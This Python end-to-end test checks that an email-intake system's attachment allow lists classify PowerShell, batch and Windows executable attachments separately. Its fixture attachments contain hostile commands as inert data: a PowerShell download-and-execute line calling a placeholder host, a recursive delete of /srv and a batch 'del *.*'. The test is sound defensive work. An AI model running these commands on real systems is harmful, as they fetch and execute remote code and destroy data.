"""Script kinds each have their own type, so ``allow`` names one alone: real messages through
intake (``accept``, as ``baton intake eml`` and the listeners call it), on both databases.

A ``.ps1``/``.psm1`` (and a ``#!/usr/bin/env pwsh`` text) is ``application/x-powershell``;
a ``.bat``/``.cmd`` is ``application/x-bat`` even when sent as
``application/x-msdos-program`` (what Debian's ``mime.types``, and so Python's
``mimetypes``, call ``.exe``, ``.com`` and ``.bat`` alike), so a list that names PowerShell
takes no batch file, one that names batch files no PowerShell, and one that names Windows
executables neither. A declaration that is another name of the same kind stands."""

from __future__ import annotations

import json
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from baton.intake import sniff
from tests.e2e.test_cli import baton, ok

ALLOWS = {
    "powershell": "[application/x-powershell]",
    "batch": "[text/x-msdos-batch]",  # (another name of application/x-bat)
    "windows": "[application/vnd.microsoft.portable-executable]",
    "anything": '["*/*"]',
}
DEFS = """
kind: object
name: Case
fields:
  subject: {type: string}
""" + "".join(f"""---
kind: mailbox
name: {box}
object: Case
addresses: [{box}@baton.example]
fields: {{subject: subject}}
attachments: {{allow: {allow}}}
""" for box, allow in ALLOWS.items())

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ATTACHMENTS = (  # name, declared type, bytes, stored type
    ("Setup.ps1", "application/octet-stream", b"iex (irm https://x.example/a)\r\n",
     sniff.POWERSHELL),
    ("Profile.psm1", "text/plain", b"function Get-X {}\n", sniff.POWERSHELL),
    ("deploy", "text/plain", b"#!/usr/bin/env pwsh\nRemove-Item /srv -Recurse\n",
     sniff.POWERSHELL),
    ("run.bat", "application/x-msdos-program", b"@echo off\r\ndel *.*\r\n", sniff.BAT),
    ("run.cmd", "text/x-msdos-batch", b"@echo off\r\n", "text/x-msdos-batch"),
    ("tool.exe", "application/x-msdos-program", PE, "application/x-msdos-program"),
    ("notes.txt", "text/plain", b"just notes\n", "text/plain"),
)
STORED = {  # mailbox -> the attachments it stores (the others are refused)
    "powershell": {"Setup.ps1", "Profile.psm1", "deploy"},
    "batch": {"run.bat", "run.cmd"},
    "windows": {"tool.exe"},
    "anything": {"notes.txt"},
}


def message(box: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"] = "ana@dealer.example", f"{box}@baton.example"
    msg["Subject"], msg["Message-ID"] = f"Scripts for {box}", f"<scripts-{box}@dealer.example>"
    msg.set_content("The scripts.")
    for name, declared, data, _ in ATTACHMENTS:
        major, minor = declared.split("/")
        msg.add_attachment(data, maintype=major, subtype=minor, filename=name)
    return msg.as_bytes()


def test_each_script_kind_is_allowed_by_its_own_type(harness: Any, tmp_path: Path) -> None:
    harness.deploy_text(DEFS)
    intake = harness.engine.intake
    types = {name: stored for name, _, _, stored in ATTACHMENTS}
    for box, allow in ALLOWS.items():
        got = intake.accept(message(box), via="eml")
        assert got.outcome == "created", box
        attachments = {a["filename"]: a for a in intake.attachments(got.record_id)}
        assert {n: a["content_type"] for n, a in attachments.items()} == types, box
        assert {n for n, a in attachments.items() if a["status"] == "stored"} == STORED[box], box
        for name, a in attachments.items():
            if name in STORED[box]:
                assert a["reason"] is None
                continue
            assert a["status"] == "refused" and a["content_type"] in a["reason"], (box, name)
            assert allow.strip("[]").replace('"', "") in a["reason"], (box, name)
    # the .bat sent as Debian's executable type: the note says its name made it a batch file
    bat = f"run.bat: sent as application/x-msdos-program, its name makes it {sniff.BAT}: " \
          f"stored as {sniff.BAT}"
    assert bat in got.notes
    if harness.backend != "sqlite":
        return
    # the same through the CLI (a new message to the PowerShell box)
    eml = tmp_path / "again.eml"
    eml.write_bytes(message("powershell").replace(b"<scripts-powershell@", b"<again@"))
    (out,) = json.loads(ok(baton("--db", harness.db_url, "intake", "eml", eml, "--json",
                                 cwd=tmp_path)).stdout)
    assert out["outcome"] == "created" and bat in out["notes"]
    stored = {a["filename"] for a in intake.attachments(out["record_id"])
              if a["status"] == "stored"}
    assert stored == STORED["powershell"]
